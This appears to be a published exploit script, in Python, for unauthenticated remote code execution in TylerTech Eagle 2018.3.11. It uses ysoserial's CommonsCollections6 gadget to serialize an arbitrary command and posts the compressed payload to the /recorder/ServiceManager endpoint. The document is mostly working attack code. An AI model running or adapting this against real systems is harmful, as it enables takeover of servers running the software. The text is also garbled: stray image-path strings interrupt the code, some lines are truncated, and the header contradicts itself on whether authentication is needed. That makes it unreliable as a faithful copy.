# Exploit Title: TylerTech Eagle 2018.3.11 - Remote Code Execution
# Date: 2019-10-08
# Exploit Author: Anthony Cole
# Vendor Homepage:
# Version: 2018.3.11
# Tested on: Windows 2012
# CVE: N/A
# Category: webapps
# Eagle is a software written in Java by TylerTech. Version 2018.3.11 allows an unauthenticated attacker to cause the software to deserialize untrusted data that can result in remote code execution.
# /recorder/ServiceManager in TylerTech Eagle 2018.3.11 is vulnerable to remote code execution via deserialization of untrusted user input from an authenticated user. The executed code will run as the tomcatservice that is running the application.
import sys, requests, zlib, argparse, urlparse, subprocess
from requests.packages.urllib3.exceptions import InsecureRequestWarning
def run_command(command):
p = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, shell=True)
output = b''
for line in iter(p.stdout.readline, b''):
output += linereturn output
def isurl(urlstr):
return urlstr
raise argparse.ArgumentTypeError("invalid url")
if __name__ == "__main__":
parser = argparse.ArgumentParser(description='Java Deserialization Exlpoit')
parser.add_argument("--url", "-u", type=isurl, required=True, help="the url of the target.")
parser.add_argument("--cmd", "-c", required=True, help="the command to execute")
parser.add_argument("--ysoserial", "-y", required=True, help="the path to ysoserial.jar")
parser.add_argument("--proxy", "-p", type=isurl, required=False, help="ex:")
args = parser.parse_args()
url_parts = urlparse.urlparse(args.url)
target_url = "%s://%s" % (url_parts.scheme, url_parts.netloc)
proxies = {}
if(args.proxy != None):proxy_parts = urlparse.urlparse(args.proxy)
proxies[proxy_parts.scheme] = "%s://%s" % (proxy_parts.scheme, proxy_parts.netloc)
cmd = args.cmd
serial_payload = run_command('java -jar %s CommonsCollections6 "%s"' % (args.ysoserial, args.cmd))
url = target_url + "/recorder/ServiceManager?service=tyler.empire.settings.SettingManager"
headers = {'Content-Type': 'application/octet-stream'}payload = zlib.compress(serial_payload)
response =, data=payload,proxies=proxies, verify=False)